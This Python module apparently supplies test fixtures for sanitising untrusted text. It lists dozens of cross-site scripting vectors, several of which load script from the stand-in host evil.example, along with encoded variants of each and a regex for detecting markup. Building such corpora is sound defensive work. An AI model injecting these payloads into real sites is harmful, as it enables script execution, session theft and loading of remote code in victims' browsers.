"""Markup that would run or draw something if a field of foreign text were ever shown as it came."""

from __future__ import annotations

import re
from collections.abc import Callable
from html import escape

_VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script type='text/javascript'>alert(1);</script>",
    "<script\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a/href=vbscript:x>x</a>",
    "<div style='background:url(javascript:alert(1))'>x",
    "<div style=width:expression(alert(1))>x",
    "<style>@import '//evil.example';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}<b>",
    '"><img src=x onerror=alert(1)>',
    "<custom-element onclick=alert(1)>x",
    "<p onclick=alert(1)>x</p>",
    "<table background=javascript:alert(1)><td>x",
    "<frameset onload=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example/x.js></layer>",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<im\x00g src=x onerror=alert(1)>",
)


def _numbers(text: str) -> str:
    return "".join(f"&#{ord(sign)};" if sign in "<>" else sign for sign in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(sign):06X};" if sign in "<>" else sign for sign in text)


def _twice(text: str) -> str:
    return escape(escape(text))


def _upper(text: str) -> str:
    return re.sub(r"(?<=<)\w+", lambda name: name[0].swapcase(), text)


_WAYS: tuple[Callable[[str], str], ...] = (str, escape, _numbers, _hex, _twice, _upper)

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(way(vector) for vector in _VECTORS for way in _WAYS))

MARKUP = re.compile(r"<[A-Za-z/!?]|[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e]")
"""What no plain text may hold: a sign that opens a tag, or one that cannot be seen."""
